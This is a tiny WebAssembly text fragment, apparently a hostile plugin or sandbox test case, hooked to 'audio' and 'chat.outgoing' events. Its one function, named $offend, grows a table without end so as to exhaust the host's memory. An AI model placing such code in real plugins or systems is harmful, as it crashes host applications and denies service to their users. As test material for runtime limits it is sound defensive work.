;; hooks: "audio","chat.outgoing"
;; A table that grows for ever: it is no memory of the guest's, but takes the host's.
(memory (export "memory") 1)
(table $t 1 externref)
(func $offend
  (loop $again
    (drop (table.grow $t (ref.null extern) (i32.const 0x100000)))
    (br $again)))
